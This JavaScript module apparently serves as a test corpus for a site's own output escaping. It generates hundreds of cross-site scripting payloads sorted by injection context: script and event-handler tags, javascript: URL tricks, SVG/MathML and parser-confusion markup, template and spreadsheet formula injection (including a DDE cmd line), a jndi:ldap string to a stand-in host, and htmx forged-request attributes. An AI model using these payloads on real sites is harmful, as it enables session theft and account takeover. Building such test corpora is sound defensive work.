// payloads.mjs - what somebody would type to have their own script run in another person's browser, ours, by families. Each calls __x(n) with its number.
//   at: the place of a raw page where it is alive: html (between tags), attr, attr1, bare (inside a value in double, single, no quotes), url (an href), js (a
//   string of a script), text (a textarea), comment, style. runs: it does so in today's Chromium, which the control proves; the others are kept for other
//   browsers, other programs (formulas, templates) and tomorrow.
const list = [];
const add = (family, at, runs, make) => list.push({ n: list.length + 1, family, at, runs, text: make(`__x(${list.length + 1})`, list.length + 1) });
const hex = (s) => [...s].map((c) => `&#x${c.charCodeAt(0).toString(16)};`).join('');
const dec = (s) => [...s].map((c) => `&#${c.charCodeAt(0)}`).join('');

/* tags that run by themselves */
for (const [runs, f] of [
  [1, (x) => `<script>${x}</script>`], [1, (x) => `<SCRIPT>${x}</SCRIPT>`], [1, (x) => `<script\n>${x}</script\t>`], [1, (x) => `<script/x>${x}</script>`],
  [1, (x) => `<script type=module>${x}</script>`], [1, (x) => `<script nonce=1>${x}</script>`], [1, (x) => `<script src=data:text/javascript,${x}></script>`],
  [1, (x) => `<script>/*\n*/${x}//</script>`], [0, (x) => `<scr<script>ipt>${x}</scr</script>ipt>`], [1, (x) => `<script><!--\n${x}\n//--></script>`],
  [1, (x) => `<img src=/x onerror=${x}>`], [1, (x) => `<IMG SRC=/x ONERROR="${x}">`], [1, (x) => `<img/src=/x/onerror=${x}>`.replace('/x/', '/x" "').replace('=/x" "', '="/x" ')],
  [1, (x) => `<img src=x: onerror='${x}'>`], [1, (x) => `<image src=/x onerror=${x}>`], [1, (x) => `<img src onerror=${x} src=/x>`.replace('src ', 'src=x: ')],
  [1, (x) => `<audio src=/x onerror=${x}>`], [1, (x) => `<video src=/x onerror=${x}>`], [1, (x) => `<video><source src=/x onerror=${x}></video>`], [1, (x) => `<audio><source src=/x onerror=${x}></audio>`],
  [1, (x) => `<iframe onload=${x}></iframe>`], [1, (x) => `<iframe src=javascript:parent.${x}></iframe>`], [1, (x) => `<iframe srcdoc="<script>parent.${x}</script>"></iframe>`],
  [1, (x) => `<iframe srcdoc=&lt;script&gt;parent.${x}&lt;/script&gt;></iframe>`], [1, (x) => `<object data=javascript:${x} onerror=${x}></object>`], [1, (x) => `<embed src=javascript:${x} onload=${x}>`],
  [1, (x) => `<input autofocus onfocus=${x}>`], [1, (x) => `<select autofocus onfocus=${x}></select>`], [1, (x) => `<textarea autofocus onfocus=${x}></textarea>`], [1, (x) => `<button autofocus onfocus=${x}>b</button>`],
  [1, (x) => `<a href=# autofocus onfocus=${x}>a</a>`], [1, (x) => `<p contenteditable autofocus onfocus=${x}>p`], [1, (x) => `<details open ontoggle=${x}>d</details>`],
  [1, (x) => `<style onload=${x}></style>`], [1, (x) => `<link rel=stylesheet href=data:text/css, onload=${x}>`], [1, (x) => `<link rel=stylesheet href=x: onerror=${x}>`],
  [1, (x) => `<svg onload=${x}>`], [1, (x) => `<svg/onload=${x}>`], [1, (x) => `<svg\nonload\n=\n${x}\n>`], [1, (x) => `<body onpageshow=${x}>`], [0, (x) => `<marquee onstart=${x}>m</marquee>`],
  [1, (x) => `<input type=image src=/x onerror=${x}>`], [0, (x) => `<frameset onload=${x}>`], [0, (x) => `<isindex onload=${x}>`], [0, (x) => `<bgsound onerror=${x} src=x>`],
  [1, (x) => `<xss style="animation:a 1s" onanimationstart=${x}></xss><style>@keyframes a{from{top:0}}</style>`], [1, (x) => `<track default src=/x onerror=${x}>`.replace('<track', '<video src=/x><track') + `<img src=/x onerror=${x}>`],
  [1, (x) => `<template shadowrootmode=open><img src=/x onerror=${x}></template>`.replace('<template', '<div><template') + '</div>'], [1, (x) => `<noscript><p title="</noscript><img src=/x onerror=${x}>">`],
]) add('tags', 'html', runs, f);

/* every event of HTML, on a tag of no meaning; the control pokes each */
for (const e of ['click', 'dblclick', 'auxclick', 'contextmenu', 'mousedown', 'mouseup', 'mouseover', 'mouseout', 'mouseenter', 'mouseleave', 'mousemove', 'wheel', 'mousewheel', 'keydown', 'keyup', 'keypress',
  'focus', 'blur', 'input', 'beforeinput', 'change', 'invalid', 'reset', 'submit', 'select', 'search', 'drag', 'dragend', 'dragenter', 'dragleave', 'dragover', 'dragstart', 'drop', 'copy', 'cut', 'paste',
  'beforecopy', 'beforecut', 'beforepaste', 'scroll', 'scrollend', 'resize', 'toggle', 'beforetoggle', 'close', 'cancel', 'load', 'error', 'abort', 'canplay', 'ended', 'pause', 'play', 'playing', 'progress',
  'seeked', 'stalled', 'timeupdate', 'volumechange', 'waiting', 'pointerdown', 'pointerup', 'pointerover', 'pointerenter', 'pointermove', 'pointercancel', 'gotpointercapture', 'touchstart',
  'touchend', 'animationend', 'animationiteration', 'transitionend', 'transitionrun', 'transitionstart', 'selectstart', 'selectionchange', 'securitypolicyviolation', 'slotchange', 'formdata']) {
  add('events', 'html', 1, (x) => `<b on${e}=${x}>b</b>`);
}

/* out of an attribute */
for (const [at, q] of [['attr', '"'], ['attr1', "'"]]) {
  for (const [runs, f] of [
    [1, (x) => `${q} onmouseover=${q}${x}`], [1, (x) => `${q} autofocus onfocus=${q}${x}`], [1, (x) => `${q}onfocus=${x} autofocus x=${q}`], [1, (x) => `${q}><script>${x}</script>`],
    [1, (x) => `${q}><img src=/x onerror=${x}>`], [1, (x) => `${q}/><svg onload=${x}>`], [1, (x) => `${q}\tonclick\t=\t${x}\t`], [1, (x) => `${q}/onclick=${x}//`], [1, (x) => `${q} style=animation:a onanimationstart=${x} x=${q}`],
    [1, (x) => `x${q} onpointerenter=${x} y=${q}`], [1, (x) => `${q} type=image src=/x onerror=${x} x=${q}`], [1, (x) => `${q}></textarea></title></style></script><script>${x}</script>`],
    [0, (x) => `\\${q};${x};//`], [0, (x) => `&quot; onclick=${x}`], [0, (x) => `%22%3E%3Cscript%3E${x}%3C/script%3E`], [0, (x) => `\u02ba onclick=${x} `], [0, (x) => `＂ onclick=${x}`],
  ]) add('attributes', at, runs, f);
}
for (const f of [(x) => `x onmouseover=${x}`, (x) => `x autofocus onfocus=${x}`, (x) => `x><script>${x}</script>`, (x) => `x/onclick=${x}`.replace('x/', 'x ')]) add('attributes', 'bare', 1, f);

/* addresses */
for (const [runs, f] of [
  [1, (x) => `javascript:${x}`], [1, (x) => `JaVaScRiPt:${x}`], [1, (x) => ` javascript:${x}`], [1, (x) => `java\tscript:${x}`], [1, (x) => `java\nscript:${x}`], [1, (x) => `java\rscript:${x}`], [1, (x) => `\tjavascript:${x}`],
  [1, (x) => `\u0001javascript:${x}`], [1, (x) => `javascript\t:${x}`], [1, (x) => `javascript:\n${x}`], [1, (x) => `javascript://%0a${x}`], [1, (x) => `javascript:/*x*/${x}`], [1, (x) => `javascript:%5f%5f${x.slice(2)}`],
  [1, (x) => `javascript:void(${x})`], [1, (x) => `javascript:'x'+${x}`], [1, (x) => `javascript:eval('${x}')`], [1, (x) => `javascript:(()=>${x})()`], [1, (x) => `javascript:window['__x'](${x.slice(4, -1)})`],
  [1, (x) => `\u000bjavascript:${x}`.replace('\u000b', '\u001f')], [1, (x) => `javascript:\u2028${x}`], [1, (x) => `JAVASCRIPT:${x};//https://www.gov.cn/`],
  [0, (x) => `data:text/html,<script>${x}</script>`], [0, (x) => `data:text/html;base64,PHNjcmlwdD5fX3goMSk8L3NjcmlwdD4=#${x}`], [0, (x) => `vbscript:${x}`], [0, (x) => `livescript:${x}`], [0, (x) => `feed:javascript:${x}`],
  [0, (x) => `view-source:javascript:${x}`], [0, (x) => `jar:javascript:${x}!/`], [0, (x) => `//forged.invalid/${x}`], [0, (x) => `https:javascript:${x}`], [0, (x) => `javascript&colon;${x}`], [0, (x) => `blob:javascript:${x}`], [0, (x) => `filesystem:javascript:${x}`],
]) add('addresses', 'url', runs, f);
for (const [runs, f] of [
  [1, (x) => `<a href=javascript:${x}>a</a>`], [1, (x) => `<a href="&#106;avascript:${x}">a</a>`], [1, (x) => `<a href="${hex('javascript:')}${x}">a</a>`], [1, (x) => `<a href="javascript&colon;${x}">a</a>`], [1, (x) => `<a href="jav&Tab;ascript:${x}">a</a>`],
  [1, (x) => `<a href="jav&NewLine;ascript:${x}">a</a>`], [1, (x) => `<a href="&#0000106avascript:${x}">a</a>`], [1, (x) => `<form action=javascript:${x}><button>b</button></form>`], [1, (x) => `<form><button formaction=javascript:${x}>b</button></form>`],
  [1, (x) => `<form><input type=submit formaction=javascript:${x}></form>`], [1, (x) => `<form id=f${x.slice(4, -1)}></form><button form=f${x.slice(4, -1)} formaction=javascript:${x}>b</button>`], [1, (x) => `<map><area href=javascript:${x}></map>`],
  [0, (x) => `<img src=javascript:${x}>`], [0, (x) => `<img dynsrc=javascript:${x}>`], [0, (x) => `<body background=javascript:${x}>`], [0, (x) => `<link rel=stylesheet href=javascript:${x}>`], [0, (x) => `<meta http-equiv=refresh content="9;url=javascript:${x}">`],
  [0, (x) => `<base href=javascript:${x}//>`],
]) add('addresses', 'html', runs, f);

/* SVG and MathML */
for (const [runs, f] of [
  [1, (x) => `<svg><script>${x}</script></svg>`], [1, (x) => `<svg><script>${hex(x)}</script></svg>`], [1, (x) => `<svg><script href=data:text/javascript,${x} /></svg>`], [1, (x) => `<svg><script xlink:href=data:text/javascript,${x} /></svg>`],
  [1, (x) => `<svg><g onload=${x}></g></svg>`.replace('g onload', 'image href=/x onerror').replace('</g>', '')], [1, (x) => `<svg><animate onbegin=${x} attributeName=x dur=1s></svg>`], [1, (x) => `<svg><set onbegin=${x} attributeName=x dur=1s></svg>`],
  [1, (x) => `<svg><animateTransform onbegin=${x} attributeName=transform dur=1s></svg>`], [1, (x) => `<svg><animateMotion onbegin=${x} dur=1s /></svg>`], [1, (x) => `<svg><animate onend=${x} attributeName=x dur=1ms></svg>`],
  [1, (x) => `<svg><a href=javascript:${x}><text y=20>t</text></a></svg>`], [1, (x) => `<svg><a xlink:href=javascript:${x}><text y=20>t</text></a></svg>`], [1, (x) => `<svg><a><animate attributeName=href values=javascript:${x} /><text y=20>t</text></a></svg>`],
  [0, (x) => `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><script>${x}</script></svg>#x" /></svg>`], [1, (x) => `<svg><foreignObject><img src=/x onerror=${x}></foreignObject></svg>`],
  [1, (x) => `<svg><desc><img src=/x onerror=${x}></desc></svg>`], [1, (x) => `<svg><title><img src=/x onerror=${x}></title></svg>`], [1, (x) => `<svg><style><img src=/x onerror=${x}></style></svg>`], [1, (x) => `<svg><circle onclick=${x} r=9 /></svg>`],
  [1, (x) => `<svg><svg onload=${x}></svg></svg>`], [1, (x) => `<svg xmlns=http://www.w3.org/2000/svg onload=${x}></svg>`], [0, (x) => `<svg><handler type=text/javascript ev:event=load>${x}</handler></svg>`], [0, (x) => `<?xml-stylesheet href="javascript:${x}"?>`],
  [1, (x) => `<math><mtext><img src=/x onerror=${x}></mtext></math>`], [1, (x) => `<math><mi onclick=${x}>m</mi></math>`], [1, (x) => `<math><annotation-xml encoding=text/html><img src=/x onerror=${x}></annotation-xml></math>`],
  [1, (x) => `<math href=javascript:${x}>m</math>`.replace('<math href', '<math><mi href').replace('m</math>', 'm</mi></math>') + `<img src=/x onerror=${x}>`], [1, (x) => `<math><mi><script>${x}</script></mi></math>`],
]) add('svg', 'html', runs, f);

/* markup that means something else when it is read a second time */
for (const [runs, f] of [
  [1, (x) => `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=/x onerror=${x}&gt;"><img src=/x onerror=${x}>`], [1, (x) => `<svg></p><style><a id="</style><img src=/x onerror=${x}>">`],
  [1, (x) => `<noscript><style></noscript><img src=/x onerror=${x}>`], [1, (x) => `<listing>&lt;img onerror=${x} src=/x&gt;</listing><img src=/x onerror=${x}>`], [1, (x) => `<select><template><style><!--</style><img src=/x onerror=${x}>--></style></template></select><img src=/x onerror=${x}>`],
  [1, (x) => `<form><math><mtext></form><form><mglyph><style></math><img src=/x onerror=${x}>`], [1, (x) => `<xmp><p title="</xmp><img src=/x onerror=${x}>">`], [1, (x) => `<textarea><p title="</textarea><img src=/x onerror=${x}>">`],
  [1, (x) => `<title><p title="</title><img src=/x onerror=${x}>">`], [1, (x) => `<style><p title="</style><img src=/x onerror=${x}>">`], [1, (x) => `<iframe><p title="</iframe><img src=/x onerror=${x}>">`], [1, (x) => `<noembed><p title="</noembed><img src=/x onerror=${x}>">`],
  [1, (x) => `<!--><img src=/x onerror=${x}>-->`], [1, (x) => `<!---><img src=/x onerror=${x}>-->`], [1, (x) => `<!--x--!><img src=/x onerror=${x}>-->`], [1, (x) => `<![CDATA[><img src=/x onerror=${x}>]]>`], [1, (x) => `<?php ><img src=/x onerror=${x}>`],
  [1, (x) => `</br/><img src=/x onerror=${x}>`], [1, (x) => `</ ><img src=/x onerror=${x}>`], [1, (x) => `<//><img src=/x onerror=${x}>`], [1, (x) => `<a href="x"title="><img src=/x onerror=${x}>"><img src=/x onerror=${x}>`],
]) add('twice read', 'html', runs, f);
for (const [at, f] of [['comment', (x) => `--><img src=/x onerror=${x}>`], ['comment', (x) => `--!><script>${x}</script>`], ['text', (x) => `</textarea><script>${x}</script>`], ['text', (x) => `</TEXTAREA\n><svg onload=${x}>`],
  ['style', (x) => `</style><script>${x}</script>`], ['style', (x) => `</style/><img src=/x onerror=${x}>`], ['js', (x) => `";${x};//`], ['js', (x) => `"+${x}+"`], ['js', (x) => `</script><script>${x}</script>`], ['js', (x) => `</script><svg onload=${x}>`],
  ['js', (x) => `";\u2028${x}//`], ['js', (x) => `"-${x}-"`]]) add('out of another place', at, 1, f);

/* spelling */
for (const [runs, f] of [
  [1, (x) => `<img src=/x onerror="${hex(x)}">`], [1, (x) => `<img src=/x onerror="${dec(x)}">`], [1, (x) => `<img src=/x onerror="&#95;&lowbar;${x.slice(2)}">`], [1, (x) => `<img src=/x onerror="\\u005f_${x.slice(2)}">`],
  [1, (x) => `<img src=/x onerror="window['\\x5f\\x5fx'](${x.slice(4, -1)})">`], [1, (x) => `<img src=/x onerror="[${x.slice(4, -1)}].map(__x)">`], [1, (x) => `<img src=/x onerror="__x\`${x.slice(4, -1)}\`">`], [1, (x) => `<img src=/x onerror="setTimeout('${x}')">`],
  [1, (x) => `<img src=/x onerror="Function('${x}')()">`], [1, (x) => `<img src=/x onerror="import('data:text/javascript,${x}')">`], [1, (x) => `<img\u000csrc=/x\u000conerror=${x}>`], [1, (x) => `<img src=/x onerror\t=\t${x}>`],
  [1, (x) => `<img src=/x oNeRrOr=${x}>`], [1, (x) => `<img src=/x onerror=${x} <b>x</b>`], [1, (x) => `<img src=/x onerror=${x}//`], [1, (x) => `<img src=/x onerror='${x}' title='`.replace(" title='", '') + '>'],
  [0, (x) => `＜script＞${x}＜/script＞`], [0, (x) => `\u2039script\u203a${x}`], [0, (x) => `+ADw-script+AD4-${x}+ADw-/script+AD4-`], [0, (x) => `%3Cscript%3E${x}%3C/script%3E`], [0, (x) => `%253Cscript%253E${x}`], [0, (x) => `\\u003cscript\\u003e${x}`], [0, (x) => `\\x3cscript\\x3e${x}`],
  [0, (x) => `&lt;script&gt;${x}&lt;/script&gt;`], [0, (x) => `&amp;lt;script&amp;gt;${x}`], [0, (x) => `<\u0130mg src=/x onerror=${x}>`], [0, (x) => `<\u017fcript>${x}</\u017fcript>`], [0, (x) => `\u202e<img src=/x onerror=${x}>`.replace('<img', '<\u202eimg')],
  [0, (x) => `<s\u200bcript>${x}</script>`], [1, (x) => `\ufeff<img src=/x onerror=${x}>`], [1, (x) => `𠮷\u{1f680}<img src=/x onerror=${x}>`], [1, (x) => `'"\`><img src=/x onerror=${x}>`],
]) add('spelling', 'html', runs, f);

/* other languages: templates, formulas, style sheets */
for (const f of [(x) => `{{${x}}}`, (x) => `{{{<script>${x}</script>}}}`, (x) => `{{constructor.constructor('${x}')()}}`, (x) => `\${${x}}`, (x) => `#{${x}}`, (x) => `<%= ${x} %>`, (x) => `[[${x}]]`, (x) => `{% raw %}${x}`, (x) => `{{>part/head}}${x}`, (x) => `{{#site}}${x}{{/site}}`,
  (x) => `v-on:click=${x}`, (x) => `ng-init=${x}`, (x) => `x-data=${x}`, (x) => `$\{jndi:ldap://forged.invalid/${x}}`]) add('templates', 'html', 0, f);
for (const f of [(x) => `=HYPERLINK("javascript:${x}")`, (x) => `+${x}`, (x) => `-1+${x}`, (x) => `@SUM(${x})`, (x) => `=cmd|'/c ${x}'!A0`, (x) => `\t=${x}`, (x) => `\r=${x}`, (x) => `=IMPORTXML("//forged.invalid/${x}")`]) add('formulas', 'html', 0, f);
for (const [runs, f] of [[0, (x) => `<div style="background:url(javascript:${x})">`], [0, (x) => `<div style="width:expression(${x})">`], [0, (x) => `<style>@import 'javascript:${x}';</style>`], [0, (x) => `<style>*{-moz-binding:url(${x})}</style>`],
  [0, (x) => `<div style="behavior:url(${x})">`], [1, (x) => `<style>@keyframes k{}</style><i style=animation:k onanimationstart=${x}>`], [1, (x) => `<i style="transition:color 1s" ontransitionend=${x}>`]]) add('style sheets', 'html', runs, f);

export const SCRIPTS = list;

/* attributes that htmx would act on: forged requests without any script. fires: on a page with htmx and no nonce it does. */
const hx = [];
const put = (fires, make) => hx.push({ n: hx.length + 1, fires, text: make(`/forged?h=${hx.length + 1}`, `__x(${9000 + hx.length + 1})`) });
for (const v of ['get', 'post', 'put', 'patch', 'delete']) put(1, (u) => `<b hx-${v}="${u}" hx-trigger="load">b</b>`);
for (const v of ['get', 'post', 'delete']) put(0, (u) => `<b data-hx-${v}="${u}" data-hx-trigger="load">b</b>`);
for (const [fires, f] of [
  [1, (u) => `"><b hx-get="${u}" hx-trigger="load">`], [1, (u) => `'><b hx-get='${u}' hx-trigger='load'>`], [1, (u) => `<form hx-post="${u}" hx-trigger="load"><input name=a value=1></form>`], [1, (u) => `<p hx-get=${u} hx-trigger=load hx-target=body>`],
  [1, (u) => `<p hx-get=${u} hx-trigger="load delay:1ms">`], [1, (u) => `<p hx-get=${u} hx-trigger="every 50ms">`], [1, (u) => `<p hx-get=${u} hx-trigger=revealed>r</p>`], [1, (u) => `<p hx-get=${u} hx-trigger="intersect once">i</p>`],
  [0, (u) => `<p hx-get=${u} hx-trigger="load" hx-nonce="guess">`], [0, (u) => `<p hx-get=${u} hx-trigger="load" nonce="guess">`], [0, (u) => `<p hx-get=${u}>clicked</p>`], [0, (u) => `<a hx-boost=true href=${u}>a</a>`],
  [0, (u, x) => `<p hx-on:load="${x}" hx-get=${u}>`], [0, (u, x) => `<p hx-on::after-init="${x}">`], [0, (u, x) => `<p hx-on:htmx:load="${x}">`], [0, (u, x) => `<p hx-on="load: ${x}">`], [0, (u, x) => `<p data-hx-on:click="${x}">`],
  [1, (u, x) => `<p hx-get=${u} hx-trigger=load hx-vals='js:{"a":${x}}'>`], [1, (u, x) => `<p hx-get=${u} hx-trigger=load hx-headers='js:{"a":${x}}'>`], [1, (u) => `<p hx-get=${u} hx-trigger=load hx-vals='{"csrf":1}'>`],
  [0, (u, x) => `<p hx-get=javascript:${x} hx-trigger=load>`], [0, (u) => `<p hx-get=//forged.invalid${u} hx-trigger=load>`], [1, (u) => `<p hx-post=${u} hx-trigger=load hx-include="[name=csrf]">`], [1, (u) => `<p hx-get=${u} hx-trigger=load hx-swap=outerHTML hx-select="#x">`],
  [1, (u) => `<p hx-get=${u} hx-trigger=load hx-push-url=true>`], [1, (u) => `<p hx-get=${u} hx-trigger="load[1==1]">`], [0, (u) => `<p hx-ext=sse sse-connect=${u}>`], [0, (u) => `<p hx-ext=ws ws-connect=${u}>`], [0, (u, x) => `<p hx-live="${x}">`],
  [0, (u) => `<p hx-config='{"action":"${u}"}' hx-trigger=load>`], [0, (u) => `<hx-partial hx-target=body><b hx-get=${u} hx-trigger=load></b></hx-partial>`], [0, (u) => `<meta name=htmx-config content='{"extensions":""}'><p hx-get=${u} hx-trigger=load>`],
  [1, (u) => `<p hx-request='{"credentials":true}' hx-get=${u} hx-trigger=load>`], [0, (u) => `<p hx-swap-oob=true id=main hx-get=${u}>`],
]) put(fires, f);
export const HTMX = hx;

/** The raw page on which a payload is alive. */
export const RAW = {
  html: (p) => `<div>${p}</div>`, attr: (p) => `<input value="${p}">`, attr1: (p) => `<input value='${p}'>`, bare: (p) => `<input value=${p}>`, url: (p) => `<a href="${p.replaceAll('&', '&amp;').replaceAll('"', '&quot;')}">a</a>`,
  js: (p) => `<script>var s = "${p}"</script>`, text: (p) => `<textarea>${p}</textarea>`, comment: (p) => `<!-- ${p} -->`, style: (p) => `<style>${p}</style>`,
};
